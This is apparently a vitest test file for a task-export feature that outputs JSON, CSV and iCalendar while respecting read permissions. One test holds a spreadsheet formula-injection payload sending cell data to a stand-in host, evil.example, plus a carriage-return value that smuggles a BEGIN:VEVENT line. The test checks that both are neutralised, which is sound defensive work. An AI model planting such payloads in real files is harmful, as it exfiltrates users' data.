// `pursuance client export`: a member takes what they may read — and only
// that — as JSON, CSV or iCalendar. Checked with real parsers: ical.js (the
// Mozilla calendar parser) for the VTODOs and Python's csv module for the CSV.
import { spawnSync } from "node:child_process";
import ICAL from "ical.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "../src/cli/client-context.js";
import { TASK_COMMANDS } from "../src/cli/client-task-commands.js";
import { startRelay, type RelayServer } from "../src/cwtch/relay-server.js";
import { taskCreateBody } from "../src/pursuance/actions.js";
import { PursuanceClient } from "../src/pursuance/client/client.js";
import { exportTasks, parseExportFormat } from "../src/usecases/task-export.js";
import { identity, ports, until } from "./helpers/pursuance-node.js";

let relay: RelayServer;
let ada: PursuanceClient, sam: PursuanceClient;
const SECRET = "admins-only plan";
const NASTY = 'Records, "FOIA"; appeal\\ due\nsecond line — ünïcödé and a long title that runs past seventy-five octets so the line must fold';

beforeAll(async () => {
  relay = await startRelay();
  ada = await PursuanceClient.create(await ports(), await identity(), { name: "Watchdogs", founderName: "ada", relays: [relay.url] });
  sam = await PursuanceClient.join(await ports(), await identity(), await ada.createInvite("seedling"), "sam");
  // A seedling holds no role key: it reads the tasks assigned to it (their key sealed to it).
  await ada.publish(taskCreateBody(ada.actor, ada.state, { text: { title: NASTY, deliverables: "a letter, filed" }, readers: ["admin"], assignee: { member: sam.me }, due: "2030-01-15" }));
  await ada.publish(taskCreateBody(ada.actor, ada.state, { text: { title: SECRET, deliverables: "" }, readers: ["admin"] }));
  await until("sam sees both tasks", () => sam.state.taskIds.length === 2, [ada, sam]);
});
afterAll(async () => {
  ada?.close();
  sam?.close();
  await relay?.close();
});

const reader = (c: PursuanceClient) => ({ client: c, now: () => Date.parse("2026-12-05T12:00:00Z") });

describe("task export", () => {
  it("iCalendar: one VTODO per task the member may read, parsed by ical.js with title, due date and status intact", () => {
    const ics = exportTasks(reader(sam), "ics", sam.state.name);
    expect(ics).not.toContain("admins-only");
    for (const line of ics.split("\r\n")) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
    const cal = new ICAL.Component(ICAL.parse(ics));
    const todos = cal.getAllSubcomponents("vtodo");
    expect(todos).toHaveLength(1);
    const todo = todos[0]!;
    expect(todo.getFirstPropertyValue("summary")).toBe(`#1 ${NASTY}`);
    expect(String(todo.getFirstPropertyValue("due"))).toBe("2030-01-15");
    expect(todo.getFirstPropertyValue("status")).toBe("NEEDS-ACTION");
    expect(todo.getFirstPropertyValue("description")).toBe("a letter, filed");
    // The admin reads both.
    expect(new ICAL.Component(ICAL.parse(exportTasks(reader(ada), "ics", ada.state.name))).getAllSubcomponents("vtodo")).toHaveLength(2);
  });

  it("CSV: RFC 4180, read back by Python's csv module field for field", () => {
    const csv = exportTasks(reader(sam), "csv", sam.state.name);
    const py = spawnSync("python3", ["-c", "import csv,json,sys; print(json.dumps(list(csv.reader(sys.stdin, strict=True))))"], { input: csv, encoding: "utf8" });
    expect(py.status, py.stderr).toBe(0);
    const rows = JSON.parse(py.stdout) as string[][];
    expect(rows[0]).toContain("title");
    expect(rows).toHaveLength(2);
    const row = Object.fromEntries(rows[0]!.map((k, i) => [k, rows[1]![i]]));
    expect(row).toMatchObject({ num: "1", title: NASTY, due: "2030-01-15", readers: "admin", status: "new" });
    expect(csv).not.toContain("admins-only");
  });

  it("a title that is a formula stays text in CSV, and a bare CR cannot end an ICS line (atk12)", async () => {
    const formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    await ada.publish(taskCreateBody(ada.actor, ada.state, { text: { title: formula, deliverables: "line one\rBEGIN:VEVENT" }, readers: ["admin"] }));
    const csv = exportTasks(reader(ada), "csv", ada.state.name);
    const py = spawnSync("python3", ["-c", "import csv,json,sys; print(json.dumps(list(csv.reader(sys.stdin, strict=True))))"], { input: csv, encoding: "utf8" });
    expect(py.status, py.stderr).toBe(0);
    const rows = JSON.parse(py.stdout) as string[][];
    const title = rows[0]!.indexOf("title");
    const cell = rows.find((r) => r[title]!.includes("HYPERLINK"))![title]!;
    expect(cell).toBe(`'${formula}`);
    const ics = exportTasks(reader(ada), "ics", ada.state.name);
    expect(ics.split("\r\n").some((l) => l.startsWith("BEGIN:VEVENT"))).toBe(false);
    const todos = new ICAL.Component(ICAL.parse(ics)).getAllSubcomponents("vtodo");
    expect(todos.some((t) => String(t.getFirstPropertyValue("description")) === "line one\nBEGIN:VEVENT")).toBe(true);
  });

  it("JSON: the tasks the member may read, with comments", () => {
    const j = JSON.parse(exportTasks(reader(sam), "json", sam.state.name)) as { pursuance: string; tasks: Array<{ title: string }> };
    expect(j.pursuance).toBe("Watchdogs");
    expect(j.tasks.map((t) => t.title)).toEqual([NASTY]);
  });

  it("refuses a format it does not know, naming it, and the CLI asks for one", async () => {
    expect(() => parseExportFormat("xlsx")).toThrow(/"xlsx" is not a format \(one of: json, csv, ics\)/);
    await expect(() => TASK_COMMANDS.export!.run(parse([], TASK_COMMANDS.export!.options), { out: () => {}, err: () => {} })).rejects.toThrow(/export needs --format/);
  });
});
